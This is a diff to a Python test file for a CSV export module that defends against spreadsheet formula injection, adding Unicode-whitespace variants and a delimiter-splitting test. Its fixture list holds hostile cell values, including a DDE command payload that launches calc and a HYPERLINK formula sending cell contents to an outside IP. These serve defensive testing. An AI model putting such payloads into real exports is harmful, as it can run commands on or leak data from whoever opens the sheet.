@@ -30,7 +30,7 @@ from tests.test_twiml import assert_valid
 FORMULAS = [
     "=1+1", "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"Ring\")", "+44 7700 900123", "-2+3", "@SUM(A1:A9)",
     "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "'=1+1", "\"=1+1", "＝1+1",
-    "|cmd", "%1", "=cmd|' /C calc'!A0",
+    "|cmd", "%1", "=cmd|' /C calc'!A0", "\u2003=1+1", "\u3000=1+1", "\u2009'=1+1", "\u200d=1+1", "\x85=1+1",
 ]  # fmt: skip
 #: What a terminal obeys or shows in another order: titles, colours, cleared screens, answers, links, hidden lines.
 COMMANDS = [
@@ -61,13 +61,25 @@ _BAD = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069\ufeff\
 @pytest.mark.parametrize("words", FORMULAS)
 def test_a_spreadsheet_reads_no_cell_as_a_formula(words: str) -> None:
     out = io.StringIO()
-    csv.writer(out).writerow([border.cell(words), "next"])
+    border.write_sheet(out, [[words, "next"]])
 
     (row,) = csv.reader(io.StringIO(out.getvalue(), newline=""))
 
     assert row[0].startswith("'") or row[0].isascii()
     assert row[0][0] in ("'", "\\"), "it is text, or begins with what is visible"
     assert row[1:] == ["next"]
+
+
+@pytest.mark.parametrize("parts", [",", ";", "\t", "|", ":"])
+@pytest.mark.parametrize("words", FORMULAS)
+def test_a_note_has_no_second_cell_whatever_parts_cells_there(words: str, parts: str) -> None:
+    """LibreOffice parts cells at commas, semicolons and tabs at once, unless they are in quotes."""
+    out = io.StringIO()
+    border.write_sheet(out, [[f"a note{parts}{words}{parts}"]])
+
+    for delimiter in (",", ";", "\t", "|", ":"):
+        (row,) = csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=delimiter)
+        assert len(row) == 1
 
 
 @pytest.mark.parametrize("words", ALL)
